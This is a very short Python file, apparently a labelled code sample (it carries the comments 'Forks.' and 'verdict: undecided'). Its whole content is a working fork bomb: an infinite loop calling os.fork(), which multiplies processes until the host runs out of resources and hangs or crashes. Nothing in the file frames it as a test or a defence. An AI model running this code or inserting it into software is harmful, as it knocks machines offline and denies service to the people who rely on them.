# Forks.
# verdict: undecided
import os

while True:
    os.fork()
